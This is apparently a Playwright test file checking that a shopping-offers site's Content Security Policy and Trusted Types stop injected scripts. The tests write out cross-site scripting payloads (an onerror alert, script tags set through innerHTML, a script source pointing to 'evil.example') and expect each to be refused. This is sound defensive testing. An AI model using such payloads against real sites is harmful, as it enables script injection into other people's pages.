import { expect, type Page, test } from '@playwright/test'
import { fetchOffers, skipPopup } from './support.ts'

/** The directives that the page violates from now on. */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = []
  await page.exposeFunction('reportViolation', (directive: string) => violations.push(directive))
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      Reflect.get(window, 'reportViolation')(effectiveDirective),
    ),
  )
  return violations
}

test('an inline script that got into the HTML does not run, and the page works', { tag: '@only-wide' }, async ({
  page,
}) => {
  const violations = await watchViolations(page)
  await page.route('/mercados', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</head>', '<script>window.injected = true</script></head>')
    expect(body).toContain('window.injected')
    await route.fulfill({ response, body })
  })

  await page.goto('/mercados')
  await page.locator('html[data-alive]').waitFor({ state: 'attached' })

  expect(await page.evaluate(() => Reflect.get(window, 'injected'))).toBeUndefined()
  expect(violations).toEqual(['script-src-elem'])
})

test('every rendering of a page allows the same scripts, and no nonce is sent', { tag: '@only-wide' }, async ({
  request,
}) => {
  const [one, other] = [await request.get('/mercados?q=a1'), await request.get('/mercados?q=a1')]

  expect(one.headers()['content-security-policy']).toBe(other.headers()['content-security-policy'])
  expect(one.headers()['content-security-policy']).not.toMatch(/nonce|unsafe/)
  expect(await one.text()).not.toContain('nonce=')
})

test('text does not become HTML or a script, and what React writes after a click does', { tag: '@only-wide' }, async ({
  page,
}) => {
  const violations = await watchViolations(page)
  const [offer] = await fetchOffers(page, { search: 'picanha', city: 'itajai-sc' })
  await skipPopup(page)
  await page.goto('/?q=picanha')
  await page.locator('html[data-alive]').waitFor({ state: 'attached' })
  const card = page
    .locator('#promocoes')
    .getByRole('article')
    .filter({ has: page.locator(`a[href="/oferta/${offer?.id}"]`) })
  await card.getByRole('link', { name: 'Ver Detalhes' }).click()
  await expect(page).toHaveURL(`/oferta/${offer?.id}`)
  await expect(page.locator('script[type="application/ld+json"]').first()).toBeAttached()
  expect(violations).toEqual([])

  const refused = await page.evaluate(() => {
    const names: string[] = []
    const attempt = (work: () => void) => {
      try {
        work()
        names.push('accepted')
      } catch (error) {
        names.push((error as Error).name)
      }
    }
    attempt(() => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="alert(1)">'))
    attempt(() => {
      document.createElement('div').innerHTML = '<script>alert(1)</script>'
    })
    // Only the document parser may read an invoice.
    attempt(() => {
      document.createElement('div').innerHTML = '<NFe onclick="alert(1)">'
    })
    attempt(() => {
      document.createElement('script').src = 'https://evil.example/x.js'
    })
    attempt(() => {
      document.createElement('script').text = 'alert(1)'
    })
    attempt(() => void Reflect.get(window, 'trustedTypes')?.createPolicy('mine', {}))
    return names
  })
  expect(refused).toEqual(Array(6).fill('TypeError'))
})
